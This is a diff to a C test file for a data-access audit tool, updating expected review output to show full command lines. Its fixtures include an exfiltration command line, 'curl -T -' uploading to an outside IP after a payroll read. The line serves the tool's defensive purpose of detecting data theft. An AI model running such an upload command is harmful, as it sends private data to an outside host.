@@ -43,7 +43,7 @@ static void the_review_ranks_users_and_explains_findings(void **state)
 	assert_non_null(strstr(c.out, "first read of dataset payroll in 30 days"));
 	assert_non_null(strstr(c.out, "protected file of customers under an unprotected name: /data/customers/export/part-01.csv linked as /home/eve/notes.csv"));
 	assert_non_null(strstr(c.out, "-> /media/usb0/part-01.csv"));
-	assert_non_null(strstr(c.out, "/usr/bin/curl (pid 3302, uid mallory)"));
+	assert_non_null(strstr(c.out, "curl -T - https://203.0.113.5/up (/usr/bin/curl, pid 3302, uid mallory)"));
 	assert_non_null(strstr(c.out, "Users who read protected data without findings: "));
 	assert_non_null(strstr(c.out, "postgres (no login)"));
 	assert_non_null(strstr(c.out, "What the findings mean:\n"));
@@ -336,8 +336,8 @@ static void hostile_names_cannot_forge_the_review(void **state)
 	hostile_assert_in(c.out, "\n      protected file of customers under an unprotected name: "
 			       HOSTILE_PATH_SHOWN " linked as " HOSTILE_LINK_SHOWN "\n");
 	hostile_assert_in(c.out, "(last to " HOSTILE_DEST_SHOWN ") within 15 minutes");
-	hostile_assert_in(c.out, "  egress         200 MiB  " HOSTILE_EXE_SHOWN
-			       " (pid 3500, uid " HOSTILE_NAME_SHOWN ")  -> "
+	hostile_assert_in(c.out, "  egress         200 MiB  " HOSTILE_CMDLINE_SHOWN
+			       " (" HOSTILE_EXE_SHOWN ", pid 3500, uid " HOSTILE_NAME_SHOWN ")  -> "
 			       HOSTILE_DEST_SHOWN "\n");
 	hostile_assert_in(c.out, "  " HOSTILE_PATH_SHOWN " -> " HOSTILE_LINK_SHOWN "\n");
 	hostile_assert_in(c.out, longp);
@@ -386,8 +386,8 @@ static void the_review_in_utc(void **state)
 		fail_msg("status %d: %s", c.status, c.err);
 	assert_ptr_equal(strstr(c.out, "daudit review: 2026-11-20 00:00:00 to 2026-11-21 00:00:00 (UTC)\n"), c.out);
 	assert_non_null(strstr(c.out, "  ! sensor lost 42 records on cpu 1 between 2026-11-20 11:17:00 and 2026-11-20 23:15:00"));
-	assert_non_null(strstr(c.out, "        2026-11-20 23:25:00  egress         900 MiB  /usr/bin/curl (pid 3302, uid mallory)  -> 203.0.113.5:443/tcp\n"));
-	assert_non_null(strstr(c.out, "        2026-11-20 23:16:00  file_read     2.00 MiB  /usr/bin/sqlite3 (pid 3301, uid mallory)  /data/payroll/2026.csv\n"));
+	assert_non_null(strstr(c.out, "        2026-11-20 23:25:00  egress         900 MiB  curl -T - https://203.0.113.5/up (/usr/bin/curl, pid 3302, uid mallory)  -> 203.0.113.5:443/tcp\n"));
+	assert_non_null(strstr(c.out, "        2026-11-20 23:16:00  file_read     2.00 MiB  sqlite3 -cmd '.read /tmp/dump.sql' (/usr/bin/sqlite3, pid 3301, uid mallory)  /data/payroll/2026.csv\n"));
 	cli_free(&c);
 }
 
